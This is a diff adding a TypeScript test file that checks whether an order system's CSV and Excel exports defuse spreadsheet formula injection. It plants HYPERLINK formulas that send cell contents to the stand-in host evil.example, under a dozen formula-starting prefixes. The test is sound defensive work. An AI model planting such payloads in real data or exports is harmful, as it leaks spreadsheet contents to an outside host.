@@ -1,0 +1,135 @@
+import { randomUUID } from 'node:crypto'
+import { text as textOf } from 'node:stream/consumers'
+import type { EndpointName } from '@huoqiao/contract'
+import { afterAll, beforeAll, expect, test } from 'vitest'
+import { startOrderBench } from '../src/features/orders/orders.testing.ts'
+import type { OrderBench } from '../src/features/orders/orders.testing.ts'
+import { openZip } from '../src/platform/zip-reader.ts'
+import { exporting } from './exporting.ts'
+
+/** What a spreadsheet takes for a formula, or strips until it is one. */
+const BEGINNINGS = ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\u0001=', '＝', '＋', '－', '＠']
+const HOSTILE = BEGINNINGS.map((beginning) => `${beginning}HYPERLINK("http://evil.example/?"&A1,"x")`)
+const begins = (text: string): boolean => BEGINNINGS.some((beginning) => text.startsWith(beginning[0]!))
+
+let bench: OrderBench
+beforeAll(async () => {
+  bench = await startOrderBench()
+  await soldAndBought()
+  await plant()
+})
+afterAll(() => bench?.close())
+
+const query = (sql: string, values: unknown[]): Promise<unknown> => bench.house.db.pool.query(sql, values)
+
+/** An order line and a purchase for each text. */
+async function soldAndBought(): Promise<void> {
+  const { house } = bench
+  // One each, as equal goods of several orders are kept once.
+  const variants = (await bench.variants()).slice(0, HOSTILE.length)
+  const orders = variants.map(({ variantId }) => bench.buy([{ variantId, quantity: 1 }]))
+  const bought = await Promise.all(orders)
+  await bench.pull()
+  for (const order of bought) await bench.seen(order)
+  const { offerId } = (await house.ok('keywordQuery', { keyword: '灯', pageSize: 1 })).list[0]!
+  const { skus } = await house.ok('getOffer', { offerId })
+  for (let nr = 0; nr < HOSTILE.length; nr++)
+    await house.ok('createPurchaseOrder', {
+      items: [{ offerId, skuId: skus[0]?.skuId ?? null, quantity: 50 }],
+      key: randomUUID(),
+    })
+  await bench.quiet()
+}
+
+/** By the database, whatever a call or a shop would trim, into every column of text that people or outsiders fill. */
+async function plant(): Promise<void> {
+  for (const [nr, text] of HOSTILE.entries()) {
+    const nth = (table: string): string => `(select id from ${table} order by id offset ${nr} limit 1)`
+    await query(
+      `update sold_item set title = $1::text, variant_title = $1::text, sku = $1::text where id =
+         (select item_id from sales_order_line where id = ${nth('sales_order_line')})`,
+      [text],
+    )
+    await query(
+      `update purchase_order set note = $1::text, message = $1::text, supplier_name = $1::text, address_name = $1::text, account_name = $1::text, created_by = $1::text
+        where id = ${nth('purchase_order')}`,
+      [text],
+    )
+    await query(
+      `update purchase_line set title = $1::text, spec_text = $1::text, short_reason = $1::text where id = ${nth('purchase_line')}`,
+      [text],
+    )
+    await query(
+      `insert into reconciliation_difference (id, key, pass, subject, kind, "group", severity, weight, state, what, why, affects, next,
+         objects, figures, facts, order_ids, purchase_ids, search_text, first_seen_at, last_seen_at, ignored_note)
+       values ($2::uuid, $1::text, 'orders', '', 'unbought', 'order-purchase', 'urgent', 3, 'open', $1::text, $1::text, $1::text, $1::text,
+         jsonb_build_array(jsonb_build_object('kind', 'order', 'id', $2::uuid::text, 'label', $1::text)),
+         jsonb_build_array(jsonb_build_object('label', $1::text, 'ours', $1::text, 'theirs', 1, 'unit', 'text')), '', '{}', '{}', '',
+         now(), now(), $1::text)`,
+      [text, randomUUID()],
+    )
+    await query(
+      `insert into login_log (id, at, user_account, ip, user_agent, outcome, message) values ($2::uuid, now(), $1::text, $1::text, $1::text, 'refused', $1::text)`,
+      [text, randomUUID()],
+    )
+    await query(
+      `insert into operation_log (id, at, account_name, ip, call, title, objects, object_keys, changes, outcome, message, duration_ms, request_id)
+       values ($2::uuid, now(), $1::text, $1::text, $1::text, $1::text, jsonb_build_array(jsonb_build_object('kind', 'x', 'id', 'x', 'label', $1::text)), '{}',
+         jsonb_build_array(jsonb_build_object('field', $1::text, 'before', $1::text, 'after', $1::text)), 'refused', $1::text, 1, $1::text)`,
+      [text, randomUUID()],
+    )
+  }
+}
+
+/** A cell as it stands in the file. `isText`: a spreadsheet shows it, and does not reckon with it. */
+type Raw = { text: string; isText: boolean }
+
+const unescaped = (xml: string): string => xml.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&amp;', '&')
+/** Numbers are left out: they have no beginning that anybody chose. */
+async function workbookCells(path: string): Promise<Raw[]> {
+  const response = await fetch(`${bench.house.url}${path}`)
+  expect(response.status).toBe(200)
+  const zip = await openZip(Buffer.from(await response.arrayBuffer()), 10_000_000)
+  const xml = await textOf(zip.part('xl/worksheets/sheet1.xml')!)
+  // Neither formulas nor texts that lie elsewhere: then every cell is one of the two kinds below.
+  expect(xml).not.toMatch(/<f[\s>/]|t="s"|t="str"/)
+  return [...xml.matchAll(/<c r="[A-Z]+\d+"([^>]*)>(.*?)<\/c>/gs)].flatMap(([, attributes, inner]) => {
+    if (/^<v>-?[\d.e+-]+<\/v>$/.test(inner!)) return []
+    const text = unescaped(/^<is><t xml:space="preserve">(.*)<\/t><\/is>$/s.exec(inner!)![1]!)
+    // The mark keeps it text when somebody opens the cell and presses Enter.
+    return [{ text, isText: attributes === ' t="inlineStr" s="1"' }]
+  })
+}
+/** By RFC 4180. What begins with a quote of ours is text to a spreadsheet. */
+function csvCells(csv: string): Raw[] {
+  const CELL = /"((?:[^"]|"")*)"(?:,|\r\n)/g
+  expect(csv.slice(1).replaceAll(CELL, '')).toBe('')
+  const cells = [...csv.slice(1).matchAll(CELL)].map(([, cell]) => cell!.replaceAll('""', '"'))
+  return cells.map((cell) => ({ text: cell.replace(/^'/, ''), isText: !begins(cell) }))
+}
+
+const sheets: Partial<Record<EndpointName, () => Promise<Raw[]>>> = {
+  exportOperationLog: async () => csvCells((await bench.house.ok('exportOperationLog', {})).csv),
+  exportLoginLog: async () => csvCells((await bench.house.ok('exportLoginLog', {})).csv),
+  exportPurchaseOrders: async () => workbookCells((await bench.house.ok('exportPurchaseOrders', { filter: {} })).url),
+  exportDifferences: async () => workbookCells((await bench.house.ok('exportDifferences', { filter: {} })).url),
+  exportShopifyOrderSkuInfo: orderSheet,
+  downloadOrderExport: orderSheet,
+}
+async function orderSheet(): Promise<Raw[]> {
+  const task = await bench.house.ok('exportShopifyOrderSkuInfo', { orderIds: [], filter: {} })
+  await bench.settled(task)
+  return workbookCells((await bench.house.ok('downloadOrderExport', { taskId: task.id })).url)
+}
+
+test('every call that exports is looked at here', () => {
+  expect(Object.keys(sheets).toSorted()).toEqual(exporting.toSorted())
+})
+
+test.each(exporting)('%s hands out no cell that a spreadsheet would take for a formula', async (name) => {
+  const cells = await sheets[name]!()
+  expect(cells.filter(({ text, isText }) => begins(text) && !isText)).toEqual([])
+  // Control signs that XML cannot hold are left out of a workbook.
+  const seen = new Set(cells.map(({ text }) => text.replace('\u0001', '')))
+  expect(HOSTILE.filter((text) => !seen.has(text.replace('\u0001', '')))).toEqual([])
+})
